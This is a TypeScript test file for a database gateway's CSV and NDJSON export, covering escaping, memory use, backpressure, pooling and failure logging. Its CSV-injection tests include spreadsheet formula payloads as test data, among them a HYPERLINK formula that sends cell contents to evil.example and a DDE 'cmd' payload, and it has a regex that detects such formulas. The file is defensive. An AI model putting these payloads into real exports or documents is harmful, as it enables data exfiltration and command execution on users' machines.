import { once } from 'node:events';
import { request as httpRequest, type IncomingMessage } from 'node:http';
import { connect } from 'node:net';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { Problem } from '../../../server/contract/problem.ts';
import type { Result } from '../../../server/contract/result.ts';
import { createDatabase, databaseNames, type TestDatabase } from '../../support/databases.ts';
import { openTestGateway, type TestGateway } from '../../support/gateway.ts';
import { isAtRest, OVERLOADED, problem } from '../../support/observe.ts';

/** Cells that a spreadsheet would run as formulas (OWASP, "CSV Injection"). */
const DANGEROUS = /^\s*[=+\-@＝＋－＠]|^[\t\r]/;
/** Texts that contain a formula for a spreadsheet with another separator. */
const INNER = /(?<=[;\t][^\S;\t]*)(?=[=+\-@＝＋－＠])/g;

const MARKER = 'a value that no log may hold';

const queries = {
  texts: `-- Texts
-- @column id integer Its place
-- @column text text A text
select id, text from texts order by id`,
  numbers: `-- Numbers
-- @param count integer = 3 [0..1000000] How many
-- @column n integer The number
-- @column text text Something beside it
select n, repeat('x', 180) || n as text from params, generate_series(1, count) as n`,
  wide: `-- Wide rows
-- @param count integer = 3 [0..1000000] How many
-- @param width integer = 10 [0..10000000] Characters in each
-- @column n integer A number
-- @column text text Something beside it
select n, repeat('x', width) as text from params, generate_series(1, count) as n`,
  failing: `-- Fails
-- @param at integer = 3500 The row that fails
-- @column n text A number
select case when n = params.at then ('${MARKER} ' || n)::integer else n end::text as n
from params, generate_series(1, 5000) as n`,
};

let database: TestDatabase;
let gateway: TestGateway;
let url: string;
let port: number;
let authorization: string;

beforeAll(async () => {
  database = await createDatabase(databaseNames().at(-1) ?? 'packaged', { bare: true });
  await database.query('create table texts (id integer, text text)');
  gateway = await openTestGateway(database.url, {
    queries,
    env: { MAX_ROWS: '10' },
    allow: { queries: '*', expiresIn: 3600 },
  });
  ({ url, port } = await gateway.listen());
  authorization = `Bearer ${await gateway.token({ queries: '*', expiresIn: 3600 })}`;
});
afterAll(async () => {
  await gateway.close();
  await database.drop();
});

async function setTexts(texts: (string | null)[]): Promise<void> {
  await database.query('truncate texts');
  await database.query('insert into texts select * from unnest($1::int[], $2::text[])', [
    texts.map((_, i) => i),
    texts,
  ]);
}
const read = async (search: string) => (await gateway.request(`/api/queries/texts?${search}`)).text();
const readCsv = async () => parse(await read('_format=csv'), { record_delimiter: '\r\n' }) as string[][];

/** Raw CSV text of the only cell. */
async function cell(text: string): Promise<string> {
  await setTexts([text]);
  const csv = await read('_format=csv');
  expect(csv.startsWith('id,text\r\n0,')).toBe(true);
  expect(csv.endsWith('\r\n')).toBe(true);
  return csv.slice('id,text\r\n0,'.length, -2);
}

// First, because garbage of other tests would distort the measurement.
test('a million rows take no more memory than a tenth of them', async () => {
  const headers = { Authorization: authorization };
  const consume = async (count: number) => {
    const response = await fetch(`${url}/api/queries/numbers?_format=csv&count=${count}`, { headers });
    let [lines, peak] = [0, 0];
    for await (const chunk of response.body as unknown as AsyncIterable<Uint8Array>) {
      for (let at = chunk.indexOf(10); at >= 0; at = chunk.indexOf(10, at + 1)) lines += 1;
      peak = Math.max(peak, process.memoryUsage().rss);
    }
    return { lines, peak };
  };
  const base = await consume(100_000);
  const { lines, peak } = await consume(1_000_000);
  expect(lines).toBe(1_000_001);
  // The export has 190 MB; garbage comes and goes.
  expect(peak - base.peak).toBeLessThan(70_000_000);
});

describe('CSV', () => {
  test('is an attachment with a header line', async () => {
    await setTexts([]);
    const response = await gateway.request('/api/queries/texts?_format=csv');
    expect(response.status).toBe(200);
    expect(response.headers.get('Content-Type')).toBe('text/csv; charset=utf-8; header=present');
    expect(response.headers.get('Content-Disposition')).toBe('attachment; filename="texts.csv"');
    expect(await response.text()).toBe('id,text\r\n');
  });

  test.each([
    ['plain', 'plain'],
    ['', ''],
    [' padded ', ' padded '],
    ['a,b', '"a,b"'],
    ['say "so"', '"say ""so"""'],
    ['"', '""""'],
    ['two\nlines', '"two\nlines"'],
    ['two\r\nlines', '"two\r\nlines"'],
    ['a\rb', '"a\rb"'],
    ["'quoted'", "'quoted'"],
    ['ü€😀', 'ü€😀'],
    ['a;b', '"a;b"'],
    ['a\tb', '"a\tb"'],
  ])('writes %j as %j', async (text, csv) => {
    expect(await cell(text)).toBe(csv);
  });

  test.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    " =cmd|' /C calc'!A0",
    '\t=1',
    '\n=1',
    '\r',
    '\tx',
    '\u00A0=1',
    '\u3000+1',
    '\uFEFF=1',
    '-',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(A1)',
  ])('keeps a spreadsheet from running %j', async (text) => {
    expect((await cell(text)).replace(/^"/, '')).toMatch(/^'/);
    expect((await readCsv())[1]?.[1]).toBe(`'${text}`);
  });

  // In locales with a semicolon as list separator (German, Portuguese), Excel splits at each one, ignoring quotes.
  test.each([
    ['yyy;=1+1', "yyy;'=1+1"],
    ['a; =1;-2', "a; '=1;'-2"],
    ['a\t@SUM(A1)', "a\t'@SUM(A1)"],
    [';＝1', ";'＝1"],
    [';;\u00A0+1', ";;\u00A0'+1"],
    ['=1;=2', "'=1;'=2"],
    ['\tx;=1', "'\tx;'=1"],
    ['a;b=1', 'a;b=1'],
  ])('guards what is a cell for those who separate by other characters: %j as %j', async (text, guarded) => {
    expect(await cell(text)).toBe(`"${guarded}"`);
  });

  test.each(['1-1', 'a=b', 'user@example.org', '1+1', '%', '#', '\\', '!', '(=1)'])(
    'leaves %j unchanged',
    async (text) => {
      expect(await cell(text)).toBe(text);
    },
  );

  test('begins with a byte order mark if _bom=1 asks for it, and only then', async () => {
    await setTexts(['Paixão']);
    const bytes = async (search: string) => (await gateway.request(`/api/queries/texts?${search}`)).arrayBuffer();
    const text = 'id,text\r\n0,Paixão\r\n';
    expect(Buffer.from(await bytes('_format=csv&_bom=1'))).toEqual(Buffer.from(`\uFEFF${text}`));
    for (const search of ['_format=csv', '_format=csv&_bom=0']) {
      expect(Buffer.from(await bytes(search))).toEqual(Buffer.from(text));
    }
    expect(Buffer.from(await bytes('_format=ndjson&_bom=1')).at(0)).toBe(0x7b);
    expect(await gateway.json('/api/queries/texts?_format=csv&_bom=yes')).toMatchObject({ param: '_bom' });
  });

  test('leaves numbers unchanged, negative ones too', async () => {
    await database.query('truncate texts');
    await database.query("insert into texts values (-5, 'x')");
    expect(await read('_format=csv')).toBe('id,text\r\n-5,x\r\n');
  });

  test('any text round-trips, except for the added apostrophe', async () => {
    const text = fc.string({ unit: 'binary', maxLength: 20 }).map((s) => s.replaceAll('\0', ''));
    const nasty = fc
      .array(fc.constantFrom('"', ',', ';', '\t', '\r', '\n', ' ', '=', "'", 'x', '\u2028', '😀'))
      .map((s) => s.join(''));
    const guarded = (text: string) => {
      const [start = ''] = /^\s*/.exec(text) ?? [];
      const rest = text.slice(start.length).replaceAll(INNER, "'");
      return (DANGEROUS.test(text) ? "'" : '') + start + rest;
    };
    await fc.assert(
      fc.asyncProperty(fc.array(fc.oneof(text, nasty), { minLength: 1, maxLength: 50 }), async (texts) => {
        await setTexts(texts);
        const rows = (await readCsv()).slice(1);
        expect(rows.map(([, value]) => value)).toEqual(texts.map(guarded));
      }),
      { numRuns: 30 },
    );
  });
});

describe('NDJSON', () => {
  test('is an attachment with one object a line', async () => {
    await setTexts(['a', null, 'two\r\nlines\u2028', '"']);
    const response = await gateway.request('/api/queries/texts?_format=ndjson');
    expect(response.headers.get('Content-Type')).toBe('application/x-ndjson; charset=utf-8');
    expect(response.headers.get('Content-Disposition')).toBe('attachment; filename="texts.ndjson"');
    const text = await response.text();
    expect(text.endsWith('\n')).toBe(true);
    expect(
      text
        .trimEnd()
        .split('\n')
        .map((line) => JSON.parse(line)),
    ).toEqual([
      { id: 0, text: 'a' },
      { id: 1, text: null },
      { id: 2, text: 'two\r\nlines\u2028' },
      { id: 3, text: '"' },
    ]);
  });

  test('of no rows is empty', async () => {
    await setTexts([]);
    expect(await read('_format=ndjson')).toBe('');
  });
});

describe('rows', () => {
  test('are complete beyond MAX_ROWS, in the order of the query', async () => {
    for (const count of [10, 999, 1000, 1001, 2000]) {
      const text = await (await gateway.request(`/api/queries/numbers?_format=ndjson&count=${count}`)).text();
      const numbers = text
        .trimEnd()
        .split('\n')
        .map((line) => (JSON.parse(line) as { n: number }).n);
      expect(numbers).toEqual(Array.from({ length: count }, (_, i) => i + 1));
    }
    expect((await gateway.json<Result>('/api/queries/numbers?count=2000')).rowCount).toBe(10);
  });
});

describe('memory', () => {
  const wide = (search: string) => `/api/queries/wide?_format=csv&${search}`;

  test('is bounded for wide rows as for narrow ones', async () => {
    const portions: number[] = [];
    const { read } = gateway.gateway.database;
    gateway.gateway.database.read = (work) =>
      read((transaction) =>
        work({
          ...transaction,
          async *stream(...args) {
            for await (const rows of transaction.stream(...args)) {
              portions.push(rows.reduce((sum, row) => sum + (row[1]?.length ?? 0), 0));
              yield rows;
            }
          },
        }),
      );
    const text = await (await gateway.request(wide('count=60&width=300000'))).text();
    gateway.gateway.database.read = read;
    expect(text.length).toBeGreaterThan(60 * 300_000);
    expect(Math.max(...portions.slice(1))).toBeLessThanOrEqual(1_000_000);
  });

  test('a slow client applies backpressure instead of filling memory', async () => {
    const before = process.memoryUsage().rss;
    const socket = connect(port, '127.0.0.1');
    socket.write(
      `GET ${wide('count=20000&width=10000')} HTTP/1.1\r\nHost: localhost\r\nAuthorization: ${authorization}\r\n\r\n`,
    );
    await once(socket, 'data');
    socket.pause();
    const { query } = database;
    const idle =
      "select 1 from pg_stat_activity where state = 'idle in transaction' and clock_timestamp() - state_change > '500 ms' and datname = current_database()";
    await expect.poll(async () => (await query(idle)).length, { timeout: 20_000 }).toBe(1);
    // The whole export has 200 MB; the part read so far fits the buffers of a connection.
    const taken = process.memoryUsage().rss;
    socket.destroy();
    expect(taken - before).toBeLessThan(80_000_000);
    await expect.poll(() => isAtRest(gateway)).toBe(true);
  });

  test('a JSON answer above the limit is too-large, an export is not', async () => {
    const small = await openTestGateway(database.url, { queries, env: { MAX_ROWS: '100' } });
    const response = await small.request('/api/queries/wide?count=100&width=1000000');
    expect([response.status, ((await response.json()) as Problem).code]).toEqual([413, 'too-large']);
    const batch = await small.batch([
      { name: 'wide', params: { count: 100, width: 1_000_000 } },
      { name: 'numbers', params: { count: 1 } },
    ]);
    expect(await batch.json()).toMatchObject({ results: [{ code: 'too-large' }, { rowCount: 1 }] });
    const text = await (await small.request(wide('count=100&width=1000000'))).text();
    expect(text.length).toBeGreaterThan(100_000_000);
    await small.close();
  });
});

describe('connections', () => {
  async function start(to: TestGateway): Promise<{ leave(): void; response: Response }> {
    const { url } = await to.listen();
    const leave = new AbortController();
    const headers = { Authorization: `Bearer ${await to.token({ queries: '*' })}` };
    const address = `${url}/api/queries/wide?_format=csv&count=20000&width=10000`;
    const response = await fetch(address, { headers, signal: leave.signal });
    return { leave: () => leave.abort(), response };
  }

  const openBusy = async (env: Record<string, string>) => {
    const busy = await openTestGateway(database.url, { queries, env: { DATABASE_POOL_SIZE: '4', ...env } });
    const exports = [await start(busy), await start(busy)];
    expect(exports.map(({ response }) => response.status)).toEqual([200, 200]);
    return { busy, exports };
  };

  test('exports hold at most half of them; further exports are overloaded', async () => {
    const { busy, exports } = await openBusy({ ACQUIRE_TIMEOUT_MS: '2000' });
    const third = await busy.request('/api/queries/numbers?_format=csv');
    expect(await problem(third)).toEqual(OVERLOADED);
    expect((await busy.request('/api/queries/numbers?count=7')).status).toBe(200);
    for (const { leave } of exports) leave();
    await expect.poll(() => isAtRest(busy)).toBe(true);
    await busy.close();
  });

  test('are passed from a cancelled export to the next in the queue', async () => {
    const { busy, exports } = await openBusy({ ACQUIRE_TIMEOUT_MS: '60000' });
    const waiting = busy.request('/api/queries/numbers?_format=csv');
    exports[0]?.leave();
    expect((await waiting).status).toBe(200);
    await (await waiting).text();
    exports[1]?.leave();
    await expect.poll(() => isAtRest(busy)).toBe(true);
    await busy.close();
  });

  test('have a bounded queue; exports beyond it are overloaded at once', async () => {
    const { busy, exports } = await openBusy({ ACQUIRE_TIMEOUT_MS: '60000' });
    const leave = new AbortController();
    const { url } = await busy.listen();
    const headers = { Authorization: `Bearer ${await busy.token({ queries: '*' })}` };
    const ask = () => fetch(`${url}/api/queries/numbers?_format=csv`, { headers, signal: leave.signal });
    const waiting = Array.from({ length: 8 }, () => ask().catch(() => 'left'));
    await expect.poll(() => busy.gateway.exports.waiting).toBe(8);
    expect(await problem(await ask())).toEqual(OVERLOADED);
    leave.abort();
    expect(new Set(await Promise.all(waiting))).toEqual(new Set(['left']));
    for (const { leave } of exports) leave();
    await expect.poll(() => isAtRest(busy)).toBe(true);
    await busy.close();
  });

  test('are released when the client stops reading; the export is visibly broken off', async () => {
    const patient = await openTestGateway(database.url, { queries });
    patient.gateway.exportStallMs = 300;
    const { response } = await start(patient);
    expect(response.status).toBe(200);
    await expect.poll(() => isAtRest(patient), { timeout: 5000 }).toBe(true);
    await expect(response.text()).rejects.toThrow('terminated');
    expect(patient.log()).toContain('"code":"timeout"');
    await patient.close();
  });
});

describe('failures', () => {
  const get = async (path: string) => {
    const request = httpRequest({ host: '127.0.0.1', port, path, headers: { authorization }, agent: false });
    request.end();
    const [response] = (await once(request, 'response')) as [IncomingMessage];
    let body = '';
    let ended = false;
    response.setEncoding('utf8').on('data', (text: string) => (body += text));
    response.on('end', () => (ended = true));
    const closed = new Promise((resolve) => response.on('close', resolve));
    response.on('error', () => undefined);
    await closed;
    return { status: response.statusCode, body, ended, complete: response.complete };
  };

  test.each(['csv', 'ndjson'])('after the first rows reset the connection of a %s', async (format) => {
    const { status, body, ended, complete } = await get(`/api/queries/failing?_format=${format}`);
    expect({ status, ended, complete }).toEqual({ status: 200, ended: false, complete: false });
    expect(body).not.toContain('3500');
    expect(body.toLowerCase()).not.toContain('error');
  });

  test('after the first rows end the response without the last chunk', async () => {
    const socket = connect(port, '127.0.0.1');
    socket.write(
      `GET /api/queries/failing?_format=csv HTTP/1.1\r\nHost: localhost\r\nAuthorization: ${authorization}\r\n\r\n`,
    );
    let raw = '';
    socket.on('data', (data) => (raw += data));
    socket.on('error', () => undefined);
    await once(socket, 'close');
    expect(raw).toMatch(/^HTTP\/1\.1 200 OK\r\n/);
    expect(raw.toLowerCase()).toContain('transfer-encoding: chunked');
    expect(raw).not.toMatch(/\r\n0\r\n/);
  });

  test('among the first rows are a problem', async () => {
    const { status, body, complete } = await get('/api/queries/failing?_format=csv&at=10');
    expect({ status, complete, code: (JSON.parse(body) as Problem).code }).toEqual({
      status: 500,
      complete: true,
      code: 'internal',
    });
  });

  test('are logged with file and line, never with a value or SQL', async () => {
    const before = gateway.log().length;
    await get('/api/queries/failing?_format=csv');
    const log = gateway.log().slice(before);
    expect(log).toContain('"level":50');
    expect(log).toContain('"state":"22P02"');
    expect(log).not.toContain(MARKER);
    expect(log).not.toContain('generate_series');
  });

  test('of parameters and access are problems as for JSON', async () => {
    for (const format of ['csv', 'ndjson']) {
      const bad = await gateway.request(`/api/queries/numbers?_format=${format}&count=-1`);
      expect(await bad.json()).toMatchObject({ code: 'invalid-parameter', param: 'count' });
      expect(bad.headers.get('Content-Disposition')).toBeNull();
      const denied = await gateway.app.request(`/api/queries/numbers?_format=${format}`);
      expect(await denied.json()).toMatchObject({ code: 'unauthorized' });
    }
  });
});

test.each(['csv', 'ndjson'])('HEAD of a %s has its headers and takes no connection', async (format) => {
  const get = await gateway.request(`/api/queries/numbers?_format=${format}`);
  await get.text();
  for (let i = 0; i < 30; i++) {
    const head = await gateway.request(`/api/queries/numbers?_format=${format}`, { method: 'HEAD' });
    expect([head.status, await head.text()]).toEqual([200, '']);
    const same = { ...Object.fromEntries(get.headers), 'x-request-id': expect.any(String) };
    expect(Object.fromEntries(head.headers)).toEqual(same);
  }
  await expect.poll(() => gateway.gateway.database.pool).toMatchObject({ idle: gateway.gateway.database.pool.total });
  const denied = await gateway.app.request(`/api/queries/numbers?_format=${format}`, { method: 'HEAD' });
  expect(denied.status).toBe(401);
});
